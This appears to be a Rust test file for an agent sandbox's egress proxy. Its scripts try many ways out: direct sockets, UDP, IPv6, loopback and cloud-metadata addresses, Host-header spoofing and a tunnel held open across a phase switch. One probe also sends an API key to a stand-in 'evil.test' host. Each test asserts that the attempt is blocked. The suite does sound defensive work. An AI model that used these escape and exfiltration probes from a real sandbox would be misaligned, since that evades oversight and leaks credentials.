@@ -1,0 +1,399 @@
+//! The escape suite: from inside real sandboxes, an agent (and a setup script) try every
+//! way out around the egress proxy and through it, and each attempt's failure is asserted,
+//! along with the positive controls that show the way that is allowed works.
+
+use std::collections::BTreeMap;
+use std::net::IpAddr;
+use std::sync::Arc;
+
+use hangar_engine::{Engine, TaskRequest};
+use hangar_net::StaticResolver;
+use hangar_secrets::Secret;
+use hangar_spec::TaskId;
+use hangar_store::db::NetworkEntry;
+use hangar_testkit::upstream::Upstream;
+
+mod common;
+
+const API_IP: &str = "203.0.113.10";
+const EVIL_IP: &str = "203.0.113.11";
+
+fn ip(s: &str) -> IpAddr {
+    s.parse().unwrap()
+}
+
+/// The stand-in internet: `api.test` and `evil.test` on documentation addresses, and a
+/// service on the host's own loopback that no sandbox may reach by default.
+struct World {
+    api: Upstream,
+    evil: Upstream,
+    internal: Upstream,
+}
+
+fn world() -> World {
+    World {
+        api: Upstream::start(ip(API_IP), &["api.test", "deny.test", "mixed.test"]),
+        evil: Upstream::start(ip(EVIL_IP), &["evil.test"]),
+        internal: Upstream::start(ip("127.0.0.1"), &["internal.test", "rebind.test"]),
+    }
+}
+
+async fn engine_in(w: &World) -> Engine {
+    let mut engine = common::engine().await;
+    engine.set_resolver(Arc::new(
+        StaticResolver::new()
+            .with("api.test", &[ip(API_IP)])
+            .with("deny.test", &[ip(API_IP)])
+            .with("evil.test", &[ip(EVIL_IP)])
+            .with("internal.test", &[ip("127.0.0.1")])
+            .with("rebind.test", &[ip("127.0.0.1")])
+            .with("meta.test", &[ip("169.254.169.254")])
+            .with("mixed.test", &[ip(API_IP), ip("127.0.0.1")]),
+    ));
+    let roots = [&w.api, &w.evil, &w.internal]
+        .iter()
+        .map(|u| u.ca_pem.clone())
+        .collect::<String>();
+    engine.set_upstream_roots(roots.into_bytes());
+    engine
+}
+
+/// `probe NAME RESULT` lines a script printed, by name.
+fn probes(logs: &[String]) -> BTreeMap<String, String> {
+    logs.iter()
+        .filter_map(|l| l.strip_prefix("probe "))
+        .filter_map(|l| l.split_once(' '))
+        .map(|(k, v)| (k.to_string(), v.trim().to_string()))
+        .collect()
+}
+
+fn check(probes: &BTreeMap<String, String>, name: &str, expected: &str) {
+    assert_eq!(
+        probes.get(name).map(String::as_str),
+        Some(expected),
+        "probe {name}; all: {probes:#?}"
+    );
+}
+
+/// Prints the CONNECT (or plain) status and the reason header of a request through the
+/// proxy: `curl_probe NAME ARGS...` → `probe NAME <code> <reason>`.
+const HELPERS: &str = r#"
+curl_probe() {
+  local name=$1; shift
+  local out code reason
+  out=$(curl -sS -m 10 -D - -o /dev/null -w '\nconnect=%{http_connect} code=%{http_code}\n' "$@" 2>/dev/null || true)
+  reason=$(printf '%s\n' "$out" | tr -d '\r' | awk -F': ' 'tolower($1)=="x-hangar-reason"{print $2; exit}')
+  code=$(printf '%s\n' "$out" | sed -n 's/^connect=\([0-9]*\) code=\([0-9]*\)$/\1\/\2/p')
+  echo "probe $name $code ${reason:--}"
+}
+py_probe() {
+  echo "probe $1 $(python3 -c "$2" 2>&1 | tail -1)"
+}
+"#;
+
+fn env_file(name: &str, repo: &std::path::Path, internal_port: u16) -> String {
+    format!(
+        r#"name = "{name}"
+repo = "{repo}"
+image = "debian-bookworm"
+
+[setup]
+script = '''
+{HELPERS}
+curl_probe setup_loopback --noproxy none.invalid https://127.0.0.1:{internal_port}/
+curl_probe setup_loopback_name https://rebind.test:{internal_port}/
+curl_probe setup_metadata http://169.254.169.254/latest/meta-data/
+curl_probe setup_metadata_name https://meta.test/
+curl_probe setup_v6_loopback https://[::1]:{internal_port}/
+curl_probe setup_v4_mapped https://[::ffff:127.0.0.1]:{internal_port}/
+curl_probe setup_mixed https://mixed.test/
+curl_probe setup_tunnel -k https://api.test:$API_HTTPS_PORT/setup-tunnel
+'''
+
+[maintenance]
+script = '''
+cat > /tmp/holder.py <<'PY'
+import socket, sys, os, time
+s = socket.create_connection(("127.0.0.1", 3128))
+s.sendall(sys.argv[1].encode() + b"\r\n\r\n")
+head = s.recv(4096)
+open("/tmp/holder.connected", "w").write(head.decode(errors="replace").splitlines()[0])
+while not os.path.exists("/tmp/go"):
+    time.sleep(0.05)
+try:
+    s.sendall(b"GET /after-switch HTTP/1.1\r\nHost: api.test\r\nConnection: close\r\n\r\n")
+    data = s.recv(4096)
+    result = "open " + data.decode(errors="replace").splitlines()[0] if data else "closed"
+except OSError as e:
+    result = "closed " + type(e).__name__
+open("/tmp/holder.out", "w").write(result)
+PY
+setsid python3 /tmp/holder.py "CONNECT {API_IP}:$API_HTTP_PORT HTTP/1.1" >/dev/null 2>&1 < /dev/null &
+for i in $(seq 100); do [ -e /tmp/holder.connected ] && break; sleep 0.05; done
+echo "probe maintenance_holder $(cat /tmp/holder.connected)"
+'''
+
+[env]
+API_HTTP_PORT = "{api_http}"
+API_HTTPS_PORT = "API_HTTPS_PORT_VALUE"
+EVIL_HTTPS_PORT = "EVIL_HTTPS_PORT_VALUE"
+
+[secrets.API_KEY]
+inject = {{ hosts = ["api.test"], header = "Authorization", format = "Bearer {{}}" }}
+phases = ["agent"]
+
+[network.setup]
+access = "unrestricted"
+
+[network.maintenance]
+access = "limited"
+allow = ["{API_IP}"]
+
+[network.agent]
+access = "limited"
+allow = ["*.test", "internal.test:{internal_port}"]
+deny = ["deny.test"]
+methods = ["GET", "HEAD"]
+
+[agent]
+script = 'true'
+"#,
+        repo = repo.display(),
+        api_http = "API_HTTP_PORT_VALUE",
+    )
+}
+
+const AGENT: &str = r#"
+touch /tmp/go
+for i in $(seq 100); do [ -e /tmp/holder.out ] && break; sleep 0.05; done
+echo "probe phase_switch $(cat /tmp/holder.out 2>/dev/null || echo missing)"
+echo "probe key_is_placeholder $(case "$API_KEY" in hangar-placeholder-*) echo yes;; *) echo no;; esac)"
+py_probe direct_ip 'import socket; socket.create_connection(("203.0.113.10", 80), timeout=5)'
+curl --noproxy '*' -sS -m 5 -o /dev/null http://203.0.113.10/ 2>/dev/null || echo "probe direct_curl exit=$?"
+py_probe resolve 'import socket; socket.getaddrinfo("api.test", 443)'
+py_probe udp 'import socket; s=socket.socket(socket.AF_INET, socket.SOCK_DGRAM); s.sendto(b"x", ("203.0.113.10", 53))'
+py_probe ipv6_direct 'import socket; socket.create_connection(("2001:db8::1", 80), timeout=5)'
+py_probe ipv6_udp 'import socket; s=socket.socket(socket.AF_INET6, socket.SOCK_DGRAM); s.sendto(b"x", ("2001:db8::1", 53))'
+curl_probe unlisted https://unlisted.example/
+curl_probe denied https://deny.test/
+curl_probe get_allowed https://api.test:$API_HTTPS_PORT/get
+curl_probe post_refused -X POST -d x https://api.test:$API_HTTPS_PORT/post
+curl_probe host_mismatch -H "Host: evil.test:$EVIL_HTTPS_PORT" https://api.test:$API_HTTPS_PORT/host-mismatch
+curl_probe plain_host_mismatch -H 'Host: evil.test' http://api.test:$API_HTTP_PORT/plain-mismatch
+curl_probe loopback --noproxy none.invalid https://127.0.0.1/
+curl_probe loopback_name https://rebind.test/
+curl_probe metadata http://169.254.169.254/
+curl_probe v6_loopback --noproxy none.invalid 'https://[::1]/'
+curl_probe internal_named "https://internal.test:$INTERNAL_PORT/named"
+curl_probe inject -H "Authorization: Bearer $API_KEY" https://api.test:$API_HTTPS_PORT/inject
+curl_probe elsewhere -H "Authorization: Bearer $API_KEY" https://evil.test:$EVIL_HTTPS_PORT/elsewhere
+curl_probe wrong_header -H "X-Key: $API_KEY" https://api.test:$API_HTTPS_PORT/wrong-header
+"#;
+
+#[tokio::test(flavor = "multi_thread")]
+async fn the_agent_finds_no_way_out_but_the_allowed_one() {
+    let w = world();
+    let engine = engine_in(&w).await;
+    let repo = hangar_testkit::repo_with(&[("README", b"net\n")]);
+    let name = format!("net-{}", TaskId::random());
+    let internal_port = w.internal.https.port();
+    let file = env_file(&name, repo.path(), internal_port)
+        .replace("API_HTTP_PORT_VALUE", &w.api.http.port().to_string())
+        .replace("API_HTTPS_PORT_VALUE", &w.api.https.port().to_string())
+        .replace("EVIL_HTTPS_PORT_VALUE", &w.evil.https.port().to_string());
+    engine
+        .create_env("net.toml", &file, repo.path())
+        .await
+        .unwrap();
+    let key = format!("real-key-{}", TaskId::random());
+    engine
+        .secret_set(
+            &name,
+            "API_KEY",
+            &Secret::new(key.clone().into_bytes()).unwrap(),
+        )
+        .await
+        .unwrap();
+    let script = format!("INTERNAL_PORT={internal_port}\n{HELPERS}\n{AGENT}");
+    let req = TaskRequest {
+        script: Some(script),
+        ..common::request(&name, "escape")
+    };
+    let (task, attempt) = common::run(&engine, &req).await;
+    let logs = common::logs(&engine, &task.id).await;
+    assert_eq!(attempt.error, None, "{logs:#?}");
+    let p = probes(&logs);
+
+    // Setup (unrestricted): internal addresses stay shut, however they are named.
+    for name in [
+        "setup_loopback",
+        "setup_loopback_name",
+        "setup_metadata",
+        "setup_metadata_name",
+        "setup_v6_loopback",
+        "setup_v4_mapped",
+        "setup_mixed",
+    ] {
+        let expected = if name == "setup_metadata" {
+            "000/403 blocked-private-address" // plain HTTP: the 403 is the response itself
+        } else {
+            "403/000 blocked-private-address"
+        };
+        check(&p, name, expected);
+    }
+    check(&p, "setup_tunnel", "200/200 -");
+
+    // The phase switch cut the tunnel maintenance opened.
+    check(&p, "maintenance_holder", "HTTP/1.1 200 OK");
+    assert!(
+        p["phase_switch"].starts_with("closed"),
+        "phase_switch: {}",
+        p["phase_switch"]
+    );
+    assert!(!w.api.seen().iter().any(|s| s.path == "/after-switch"));
+
+    // No way around the proxy: no route, no resolver, no UDP, no IPv6.
+    check(&p, "key_is_placeholder", "yes");
+    check(
+        &p,
+        "direct_ip",
+        "OSError: [Errno 101] Network is unreachable",
+    );
+    check(&p, "direct_curl", "exit=7");
+    assert!(
+        p["resolve"].starts_with("socket.gaierror"),
+        "{}",
+        p["resolve"]
+    );
+    check(&p, "udp", "OSError: [Errno 101] Network is unreachable");
+    check(
+        &p,
+        "ipv6_direct",
+        "OSError: [Errno 101] Network is unreachable",
+    );
+    check(
+        &p,
+        "ipv6_udp",
+        "OSError: [Errno 101] Network is unreachable",
+    );
+
+    // Through the proxy: only what the policy allows.
+    check(&p, "unlisted", "403/000 blocked-by-allowlist");
+    check(&p, "denied", "403/000 blocked-by-allowlist");
+    check(&p, "get_allowed", "200/200 -");
+    check(&p, "post_refused", "200/403 blocked-by-method");
+    check(&p, "host_mismatch", "200/403 blocked-by-allowlist");
+    check(&p, "plain_host_mismatch", "000/403 blocked-by-allowlist");
+    check(&p, "loopback", "403/000 blocked-by-allowlist");
+    check(&p, "loopback_name", "403/000 blocked-private-address");
+    check(&p, "metadata", "000/403 blocked-by-allowlist");
+    check(&p, "v6_loopback", "403/000 blocked-by-allowlist");
+    check(&p, "internal_named", "200/200 -");
+
+    // The upstreams saw only what was allowed.
+    let api = w.api.seen();
+    let paths = |u: &[hangar_testkit::upstream::Seen]| -> Vec<String> {
+        u.iter().map(|s| s.path.clone()).collect()
+    };
+    for refused in ["/post", "/host-mismatch", "/plain-mismatch"] {
+        assert!(!paths(&api).contains(&refused.to_string()), "{refused}");
+    }
+    assert!(w.evil.seen().iter().all(|s| s.path == "/elsewhere"));
+    assert!(w.internal.seen().iter().all(|s| s.path == "/named"));
+
+    // The placeholder became the key for api.test's Authorization only.
+    let at = |path: &str| api.iter().find(|s| s.path == path).cloned();
+    let injected = at("/inject").expect("api.test got the injected request");
+    assert_eq!(
+        injected.header("authorization"),
+        Some(format!("Bearer {key}").as_str())
+    );
+    let wrong = at("/wrong-header").expect("api.test got the request");
+    assert!(wrong
+        .header("x-key")
+        .unwrap()
+        .starts_with("hangar-placeholder-"));
+    let elsewhere = w
+        .evil
+        .seen()
+        .into_iter()
+        .find(|s| s.path == "/elsewhere")
+        .unwrap();
+    let sent = elsewhere.header("authorization").unwrap();
+    assert!(sent.starts_with("Bearer hangar-placeholder-"), "{sent}");
+    assert!(!sent.contains(&key));
+
+    // The audit log has every decision, and no secret value.
+    let log = engine.db().network_log(&task.id, None).await.unwrap();
+    let find = |pred: &dyn Fn(&NetworkEntry) -> bool| log.iter().find(|e| pred(e)).cloned();
+    let e = find(&|e| e.host == "unlisted.example").expect("unlisted logged");
+    assert_eq!(
+        (e.phase.as_str(), e.decision.as_str()),
+        ("agent", "blocked-by-allowlist")
+    );
+    let e = find(&|e| e.method.as_deref() == Some("POST")).expect("POST logged");
+    assert_eq!(e.decision, "blocked-by-method");
+    assert_eq!(
+        e.rule.as_deref(),
+        Some("network.agent.methods = [GET, HEAD]")
+    );
+    let e = find(&|e| e.host == "127.0.0.1" && e.phase == "setup").expect("loopback logged");
+    assert_eq!(e.decision, "blocked-private-address");
+    let e = find(&|e| e.host == "evil.test" && e.method.is_some()).expect("elsewhere logged");
+    assert!(
+        e.note
+            .as_deref()
+            .unwrap_or("")
+            .contains("placeholder of API_KEY sent unchanged"),
+        "{e:?}"
+    );
+    let e = find(&|e| e.note.as_deref() == Some("tunnel") && e.phase == "setup").unwrap();
+    assert!(e.bytes_up > 0 && e.bytes_down > 0, "{e:?}");
+    let json = serde_json::to_string(&log).unwrap();
+    assert!(!json.contains(&key));
+    let id = hangar_sandbox::SandboxId::new(attempt.sandbox.clone().unwrap()).unwrap();
+    let store = hangar_testkit::shared_store();
+    hangar_testkit::assert_no_traces(&hangar_testkit::host(&store), &id);
+}
+
+#[tokio::test(flavor = "multi_thread")]
+async fn the_agent_phase_is_off_by_default() {
+    let w = world();
+    let engine = engine_in(&w).await;
+    let repo = hangar_testkit::repo_with(&[("README", b"off\n")]);
+    let name = format!("off-{}", TaskId::random());
+    let file = format!(
+        "name = \"{name}\"\nrepo = \"{}\"\nimage = \"debian-bookworm\"\n\
+         [agent]\nscript = 'true'\n",
+        repo.path().display()
+    );
+    engine
+        .create_env("off.toml", &file, repo.path())
+        .await
+        .unwrap();
+    let req = TaskRequest {
+        script: Some(format!(
+            "{HELPERS}\ncurl_probe off -k https://api.test/\n\
+             echo \"probe env $HTTPS_PROXY $NO_PROXY $SSL_CERT_FILE\"\n\
+             grep -c 'BEGIN CERTIFICATE' $NODE_EXTRA_CA_CERTS | sed 's/^/probe ca /'\n\
+             grep -qF \"$(sed -n 2p $NODE_EXTRA_CA_CERTS)\" /etc/ssl/certs/ca-certificates.crt && echo 'probe trusted yes'\n"
+        )),
+        ..common::request(&name, "off")
+    };
+    let (task, attempt) = common::run(&engine, &req).await;
+    let logs = common::logs(&engine, &task.id).await;
+    assert_eq!(attempt.error, None, "{logs:#?}");
+    let p = probes(&logs);
+    check(&p, "off", "403/000 network-off");
+    check(
+        &p,
+        "env",
+        "http://127.0.0.1:3128 localhost,127.0.0.1 /.hangar/run/ca-bundle.pem",
+    );
+    check(&p, "ca", "1");
+    check(&p, "trusted", "yes");
+    assert!(w.api.seen().is_empty());
+    let log = engine.db().network_log(&task.id, None).await.unwrap();
+    assert_eq!(log.len(), 1, "{log:?}");
+    assert_eq!(log[0].rule.as_deref(), Some("network.agent.access = off"));
+}
